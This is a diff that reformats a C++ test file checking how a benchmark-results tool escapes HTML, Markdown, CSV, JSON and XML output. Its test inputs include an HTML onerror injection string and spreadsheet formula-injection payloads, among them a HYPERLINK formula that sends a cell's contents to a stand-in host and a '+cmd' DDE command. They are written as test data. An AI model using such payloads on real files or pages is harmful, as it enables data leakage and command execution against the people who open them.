@@ -52,12 +52,10 @@ TEST_CASE("Escaping: HTML escapes <, &, and both quotes in text and attributes",
   const auto html = compared(file_with_label(label), "html");
   CHECK(html.find("<img") == std::string::npos);
   CHECK(html.find("onerror=\"") == std::string::npos);
-  CHECK(html.find("&lt;img src=x onerror=&quot;a(&#39;&amp;&#39;)&quot;&gt;") !=
-        std::string::npos);
+  CHECK(html.find("&lt;img src=x onerror=&quot;a(&#39;&amp;&#39;)&quot;&gt;") != std::string::npos);
 }
 
-TEST_CASE("Escaping: a Markdown cell keeps its table whole despite | and newlines",
-          "[escaping]") {
+TEST_CASE("Escaping: a Markdown cell keeps its table whole despite | and newlines", "[escaping]") {
   const auto md = compared(file_with_label("a|b\nc\r\nd"), "md");
   CHECK(md.find("a\\|b c  d") != std::string::npos);
   // Within each table (a run of lines starting with `|`), every row has the header's cells.
@@ -81,8 +79,7 @@ TEST_CASE("Escaping: a Markdown cell keeps its table whole despite | and newline
   CHECK(md.find('\r') == std::string::npos);
 }
 
-TEST_CASE("Escaping: CSV quotes quotes and newlines and reads back byte for byte",
-          "[escaping]") {
+TEST_CASE("Escaping: CSV quotes quotes and newlines and reads back byte for byte", "[escaping]") {
   const std::string label = "say \"hi\", then\nleave";
   const auto rows = read_csv(rendered(file_with_label(label), "csv"));
   REQUIRE(rows.size() == 3);
@@ -95,8 +92,8 @@ TEST_CASE("Escaping: CSV quotes quotes and newlines and reads back byte for byte
 TEST_CASE("Escaping: CSV leaves formula-like fields as written (docs/csv.md)", "[escaping]") {
   // The decision: no `'` prefix, because values are promised byte for byte and real fields
   // (fio's arguments, labels such as -O3) begin with `-`. Spreadsheet users import as text.
-  for (std::string label : {"=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "-O3",
-                            "@SUM(A1)"}) {
+  for (std::string label :
+       {"=HYPERLINK(\"http://x/?\"&A1)", "+cmd|' /C calc'!A0", "-O3", "@SUM(A1)"}) {
     auto f = file_with_label(label);
     f.results[0].arguments = "-s 4k --rw=randread";
     const auto rows = read_csv(rendered(f, "csv"));
@@ -122,8 +119,8 @@ TEST_CASE("Escaping: JSON escapes control characters and they read back", "[esca
 TEST_CASE("Escaping: JSON turns invalid UTF-8 from an input into U+FFFD, still valid JSON",
           "[escaping]") {
   const std::string label = "bad \xff\xfe byte, cut \xe2\x82";
-  for (auto json : {rendered(file_with_label(label), "json"),
-                    compared(file_with_label(label), "json")}) {
+  for (auto json :
+       {rendered(file_with_label(label), "json"), compared(file_with_label(label), "json")}) {
     const auto doc = nlohmann::json::parse(json);  // throws on invalid UTF-8
     CHECK(doc.dump().find("bad \xef\xbf\xbd") != std::string::npos);
   }
@@ -150,5 +147,7 @@ TEST_CASE("Escaping: XML output holds no character XML 1.0 forbids, not even as 
     CHECK((byte >= 0x20 || c == '\t' || c == '\n' || c == '\r'));
   }
   auto back = iosr::read_results(xml, "back.xml");
-  CHECK(back.results.at(0).entries.at(1).label == "a\xEF\xBF\xBD\xEF\xBF\xBD" "b\xEF\xBF\xBD\tc");
+  CHECK(back.results.at(0).entries.at(1).label ==
+        "a\xEF\xBF\xBD\xEF\xBF\xBD"
+        "b\xEF\xBF\xBD\tc");
 }
